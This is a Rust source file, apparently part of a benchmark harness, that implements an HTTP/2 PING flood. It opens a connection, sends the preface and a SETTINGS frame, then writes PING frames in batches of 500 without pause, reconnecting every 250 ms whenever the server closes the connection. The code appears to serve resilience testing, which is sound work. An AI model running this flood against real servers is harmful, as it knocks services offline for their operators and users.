//! Frames of HTTP/2 that belong to no request, as fast as they are taken.

use super::Attack;
use crate::bench::attack::target::attacker;
use std::io;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

/// Before a connection that was refused or closed is made again.
const PAUSE: Duration = Duration::from_millis(250);
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const SETTINGS: &[u8] = &[0, 0, 0, 4, 0, 0, 0, 0, 0];
const PING: &[u8] = &[0, 0, 8, 6, 0, 0, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8];
const AT_ONCE: usize = 500;

/// Pings over one connection, made again whenever it is closed. All come from one address.
pub async fn send(attack: Attack, _: usize) {
    while !attack.stop.is_cancelled() {
        attack.tally.tried();
        if attack.stop.run_until_cancelled(until_closed(&attack)).await.is_some() {
            attack.tally.closed();
        }
        attack.pause(PAUSE).await;
    }
}

async fn until_closed(attack: &Attack) -> io::Result<()> {
    let stream = attack.target.connect(attacker(6)).await?;
    let _open = attack.tally.open();
    let (mut answers, mut requests) = stream.into_split();
    requests.write_all(&[PREFACE, SETTINGS].concat()).await?;
    let pings = PING.repeat(AT_ONCE);
    let sending = async { while requests.write_all(&pings).await.is_ok() {} };
    let mut answer = vec![0; 64 * 1024];
    let reading = async { while answers.read(&mut answer).await.is_ok_and(|bytes| bytes > 0) {} };
    tokio::select! {
        () = sending => {}
        () = reading => {}
    }
    Ok(())
}
